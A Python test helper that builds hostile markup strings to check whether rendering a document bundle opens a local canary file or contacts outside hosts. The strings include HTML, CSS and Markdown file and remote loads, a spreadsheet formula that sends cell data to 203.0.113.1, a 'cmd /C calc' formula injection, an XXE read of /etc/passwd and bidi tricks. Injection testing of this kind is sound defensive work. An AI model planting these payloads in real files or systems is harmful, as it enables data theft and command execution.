"""Texts that try to be more than text, a bundle full of them, and a file that tells whether anybody opened it."""

import ctypes
import ctypes.util
import os
import struct
import sys
import zlib
from pathlib import Path

from briefing.bundle.writer import BundleWriter


def markup(canary: Path) -> dict[str, str]:
    """Texts by what they try; each would open the file `canary` or reach out where it were taken for markup."""
    uri = canary.as_uri()
    return {
        "picture": f'<img src="{canary}"> seen',
        "picture by address": f"<img src='{uri}'> seen",
        "picture far away": '<img src="http://203.0.113.1/p.png"><img src="//203.0.113.1/share/p.png"> seen',
        "picture of a share": r'<img src="\\203.0.113.1\share\p.png"><img src="file://203.0.113.1/share/p.png"> seen',
        "ground": f'<table background="{canary}"><tr><td>seen</td></tr></table>',
        "style": f'<style>@import url("{uri}"); body {{ background-image: url({uri}) }}</style> seen',
        "sheet": f'<link rel="stylesheet" href="{uri}"> seen',
        "frame": f'<iframe src="{uri}"></iframe><object data="{uri}"></object><script src="{uri}"></script> seen',
        "markdown": f"![seen]({uri}) and ![seen][a]\n\n[a]: {uri}",
        "link": f'<a href="javascript:alert(1)">seen</a> <a href="{uri}">seen</a> javascript:alert(1)',
        "typst": f'#read("{canary}") #image("{canary}") $x$ *b* @ref <label> `raw` // no remark',
        "formula": "=HYPERLINK(\"http://203.0.113.1/\"&A1) +cmd|' /C calc'!A0",
        "direction": "seats \u202e21\u202c of \u2066107\u2069 \u200fseen",
        "entities": "&lt;b&gt; &amp;lt; <![CDATA[seen]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x;",
    }


def picture(path: Path) -> Path:
    """Write a small PNG, all in one loud colour."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    pixels = zlib.compress((b"\x00" + b"\xff\x00\xfe" * 8) * 8)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    return path


def hostile_bundle(path: Path, texts: dict[str, str]) -> Path:
    """A bundle in which every title, name, quote, note and doubt is one of `texts`."""
    writer = BundleWriter(path)
    for number, text in enumerate(texts.values(), 1):
        source = writer.add_source(
            name=f"{number} {text[:60]}", media_type="text/plain", sha256="0" * 64, size_bytes=len(text), text=text,
            title=text, publisher=text, issue=text, published="2012-02-01", language="en", country=text,
        )  # fmt: skip
        article = writer.add_article(
            source_id=source, position=1, kind="article", title=text, standfirst=text, is_complete=False
        )
        paragraph = writer.add_paragraph(
            article_id=article, position=1, kind="text", text=text, page=1, source_start=0, source_end=len(text)
        )
        writer.add_paragraph(
            article_id=article, position=2, kind="table", text=f"{text}\t{text}", page=1, source_start=0, source_end=1
        )
        writer.add_repair(paragraph_id=paragraph, kind="spelling", start=0, end=2, printed=text)
        whole = writer.add_passage(paragraph, 0, len(text))
        note = writer.add_endnote(article_id=article, label=text[:8], text=text)
        writer.add_citation(passage_id=writer.add_passage(paragraph, 0, 3), label=text[:8], endnote_id=note)
        election = writer.add_election(body=text, country=text, held_on="2012-01-15", seats_total=98)
        names = [writer.add_entity(kind="party", name=f"{text} {n}", aliases=[f"{n} {text}"]) for n in range(3)]
        for name, share in zip(names, (50, 30, 20), strict=True):
            writer.add_mention(name, whole)
            writer.add_figure(
                election_id=election, entity_id=name, measure="percent", value=share, printed=text, status="final",
                passage_id=whole,
            )  # fmt: skip
        writer.add_incident(
            start_on="2012-01-15", end_on="2012-01-15", precision="day", qualifier=None, category="election",
            headline=text, date_text=text, year_from="stated", passage_ids=[whole], entity_ids=names,
        )  # fmt: skip
        writer.add_doubt(source_id=source, passage_id=whole, kind="letter", message=text)
    writer.finish()
    return path


class Watch:
    """Tells whether a file was opened by anybody since; only Linux can say."""

    IS_POSSIBLE = sys.platform == "linux"
    _OPENED = 0x20

    def __init__(self, path: Path) -> None:
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        self._queue = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if libc.inotify_add_watch(self._queue, os.fsencode(path), self._OPENED) < 0:
            raise OSError(ctypes.get_errno(), "the file cannot be watched")

    def was_opened(self) -> bool:
        """Whether it was, since the last time this was asked."""
        try:
            return bool(os.read(self._queue, 4096))
        except BlockingIOError:
            return False

    def close(self) -> None:
        """Watch no more."""
        os.close(self._queue)
